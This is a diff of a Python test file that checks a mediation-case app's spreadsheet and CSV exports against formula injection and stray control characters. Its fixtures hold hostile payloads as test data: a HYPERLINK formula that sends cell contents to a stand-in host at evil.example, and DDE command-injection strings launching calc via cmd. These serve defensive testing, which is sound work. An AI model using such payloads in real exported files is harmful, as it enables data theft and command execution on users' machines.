@@ -34,10 +34,14 @@ EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
 FIRST_ROW = 5  # the logbook sheet: title, period, note, header, then one row per case
 
 
-async def set_texts(db: Database, *, team: str, mediator: str, summary: str, agreement: str) -> None:
+async def set_texts(
+    db: Database, *, team: str, mediator: str, summary: str, agreement: str
+) -> None:
     async with db.uow() as uow:
         (await uow.session.scalar(select(Unit).where(Unit.name == "Tổ hòa giải 1"))).name = team
-        (await uow.session.scalar(select(Person).where(Person.full_name == "Hòa Giải A"))).full_name = mediator
+        (
+            await uow.session.scalar(select(Person).where(Person.full_name == "Hòa Giải A"))
+        ).full_name = mediator
         for case in await uow.session.scalars(select(Case)):
             case.summary, case.agreement = summary, agreement
         await uow.commit()
@@ -62,18 +66,32 @@ def parse_csv(data: bytes) -> list[list[str]]:
 
 def logbook_rows(wb) -> list[tuple]:
     stt = COLUMNS.index("stt")
-    return [r for r in wb.worksheets[0].iter_rows(min_row=FIRST_ROW, values_only=True)
-            if isinstance(r[stt], int)]
+    return [
+        r
+        for r in wb.worksheets[0].iter_rows(min_row=FIRST_ROW, values_only=True)
+        if isinstance(r[stt], int)
+    ]
 
 
 def formula_cells(wb) -> list[str]:
-    return [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    return [
+        c.coordinate
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
 
 
 async def test_text_that_looks_like_a_formula_stays_text(db, world, engine):
     await seed_ward(db, world)
-    await set_texts(db, team="-2+3+cmd|' /C calc'!A0", mediator="@SUM(1+1)*cmd|' /C calc'!A0",
-                    summary=EVIL, agreement="+1-1")
+    await set_texts(
+        db,
+        team="-2+3+cmd|' /C calc'!A0",
+        mediator="@SUM(1+1)*cmd|' /C calc'!A0",
+        summary=EVIL,
+        agreement="+1-1",
+    )
     wb, rows = await export_files(engine, "official", full=True)
     assert formula_cells(wb) == []
     book = logbook_rows(wb)
@@ -84,12 +102,19 @@ async def test_text_that_looks_like_a_formula_stays_text(db, world, engine):
     assert not any(looks_like_formula(f) for f in fields)
 
 
-async def test_control_and_noncharacters_in_stored_names_do_not_break_the_reports(db, world, engine):
+async def test_control_and_noncharacters_in_stored_names_do_not_break_the_reports(
+    db, world, engine
+):
     """Rows stored before the cleaning (a mediator named «Minh<ESC>», a summary with U+FFFF):
     the team's and the ward's /baocao still export, and the files open."""
     await seed_ward(db, world)
-    await set_texts(db, team="Tổ hòa giải\x07 1", mediator="Minh\x1b", summary="Tranh chấp\uffff lối đi\u202e",
-                    agreement="Hai bên\x1b[31m đồng ý\ufffe")
+    await set_texts(
+        db,
+        team="Tổ hòa giải\x07 1",
+        mediator="Minh\x1b",
+        summary="Tranh chấp\uffff lối đi\u202e",
+        agreement="Hai bên\x1b[31m đồng ý\ufffe",
+    )
     for who in ("leader_a", "official"):
         wb, rows = await export_files(engine, who)
         book = logbook_rows(wb)
@@ -99,13 +124,41 @@ async def test_control_and_noncharacters_in_stored_names_do_not_break_the_report
 
 
 # --- the property ---------------------------------------------------------------------------
-PREFIXES = st.sampled_from(["", "", "=", "+", "-", "@", "\t", "\r", "\r\n", " =", "\t=", "\uff1d", "\n@"])
-PIECES = st.sampled_from([EVIL, "2+3+cmd|' /C calc'!A0", "SUM(A1:A9)", "Minh\x1b", "\x1b[31m", "Hòa\u202egiải",
-                          "\uffff", "\ufffe\ufdd0", "\x00", "\x07\x08\x0b\x0c", "\u200b\u200d\ufeff\u2060",
-                          "\u2066\u2069", "Nguyễn Văn An", "Trần Thị Bình", "a\u0301\u0301\u0301\u0301", "_x0007_",
-                          "\n\n", ";", '"', ",", "'", "0912 345 678"])
-ANY_TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=12)  # the store refuses surrogates
-HOSTILE = st.builds(lambda p, parts: p + "".join(parts), PREFIXES, st.lists(st.one_of(PIECES, ANY_TEXT), max_size=4))
+PREFIXES = st.sampled_from(
+    ["", "", "=", "+", "-", "@", "\t", "\r", "\r\n", " =", "\t=", "\uff1d", "\n@"]
+)
+PIECES = st.sampled_from(
+    [
+        EVIL,
+        "2+3+cmd|' /C calc'!A0",
+        "SUM(A1:A9)",
+        "Minh\x1b",
+        "\x1b[31m",
+        "Hòa\u202egiải",
+        "\uffff",
+        "\ufffe\ufdd0",
+        "\x00",
+        "\x07\x08\x0b\x0c",
+        "\u200b\u200d\ufeff\u2060",
+        "\u2066\u2069",
+        "Nguyễn Văn An",
+        "Trần Thị Bình",
+        "a\u0301\u0301\u0301\u0301",
+        "_x0007_",
+        "\n\n",
+        ";",
+        '"',
+        ",",
+        "'",
+        "0912 345 678",
+    ]
+)
+ANY_TEXT = st.text(
+    st.characters(exclude_categories=("Cs",)), max_size=12
+)  # the store refuses surrogates
+HOSTILE = st.builds(
+    lambda p, parts: p + "".join(parts), PREFIXES, st.lists(st.one_of(PIECES, ANY_TEXT), max_size=4)
+)
 NAMES = st.lists(HOSTILE, min_size=1, max_size=3)
 
 
@@ -129,26 +182,51 @@ class Store:
     async def fill(self, texts: dict) -> None:
         async with self.db.uow() as uow:
             w = self.world
-            for unit_id, name in ((w.team_a.id, texts["teams"][0]), (w.team_b.id, texts["teams"][1]),
-                                  (w.ward.id, texts["ward"]), (w.team_a.parent_id, texts["village"])):
+            for unit_id, name in (
+                (w.team_a.id, texts["teams"][0]),
+                (w.team_b.id, texts["teams"][1]),
+                (w.ward.id, texts["ward"]),
+                (w.team_a.parent_id, texts["village"]),
+            ):
                 (await uow.units.get(unit_id)).name = name
-            for person, name in zip(await uow.session.scalars(select(Person).order_by(Person.id)),
-                                    texts["people"], strict=False):
+            for person, name in zip(
+                await uow.session.scalars(select(Person).order_by(Person.id)),
+                texts["people"],
+                strict=False,
+            ):
                 person.full_name = name
             for case in await uow.session.scalars(select(Case)):
                 names = texts["parties"]
-                case.parties = {"names": names, "addresses": texts["addresses"], "contact": texts["contact"],
-                                "requests": texts["requests"], "invited": texts["invited"], "place": texts["place"]}
+                case.parties = {
+                    "names": names,
+                    "addresses": texts["addresses"],
+                    "contact": texts["contact"],
+                    "requests": texts["requests"],
+                    "invited": texts["invited"],
+                    "place": texts["place"],
+                }
                 case.summary, case.agreement = texts["summary"], texts["agreement"]
-                uow.session.add(CaseEvent(case_id=case.id, at=START, kind="note", text=texts["note"]))
+                uow.session.add(
+                    CaseEvent(case_id=case.id, at=START, kind="note", text=texts["note"])
+                )
             await uow.commit()
 
     async def export(self, with_parties: bool):
         async with self.db.uow() as uow:
             official = await uow.people.get(self.world.people["official"].id)
             ward = await uow.units.get(self.world.ward.id)
-            return await export(uow, official, ward, periods.year(2026), now=START, rates=Rates(),
-                                with_parties=with_parties, t=self.t, tz=dt.UTC, via="test")
+            return await export(
+                uow,
+                official,
+                ward,
+                periods.year(2026),
+                now=START,
+                rates=Rates(),
+                with_parties=with_parties,
+                t=self.t,
+                tz=dt.UTC,
+                via="test",
+            )
 
 
 def check(done, texts: dict) -> None:
@@ -175,11 +253,26 @@ def test_hostile_text_in_every_field_gives_files_that_open_with_text_cells_only(
     store = Store()
 
     @settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
-    @given(st.fixed_dictionaries({
-        "teams": st.tuples(HOSTILE, HOSTILE), "village": HOSTILE, "ward": HOSTILE,
-        "people": st.lists(HOSTILE, min_size=6, max_size=6), "parties": NAMES, "addresses": NAMES,
-        "contact": HOSTILE, "requests": NAMES, "invited": NAMES, "place": HOSTILE, "summary": HOSTILE,
-        "agreement": HOSTILE, "note": HOSTILE}), st.booleans())
+    @given(
+        st.fixed_dictionaries(
+            {
+                "teams": st.tuples(HOSTILE, HOSTILE),
+                "village": HOSTILE,
+                "ward": HOSTILE,
+                "people": st.lists(HOSTILE, min_size=6, max_size=6),
+                "parties": NAMES,
+                "addresses": NAMES,
+                "contact": HOSTILE,
+                "requests": NAMES,
+                "invited": NAMES,
+                "place": HOSTILE,
+                "summary": HOSTILE,
+                "agreement": HOSTILE,
+                "note": HOSTILE,
+            }
+        ),
+        st.booleans(),
+    )
     def run(texts: dict, with_parties: bool) -> None:
         store.run(store.fill(texts))
         check(store.run(store.export(with_parties)), texts)
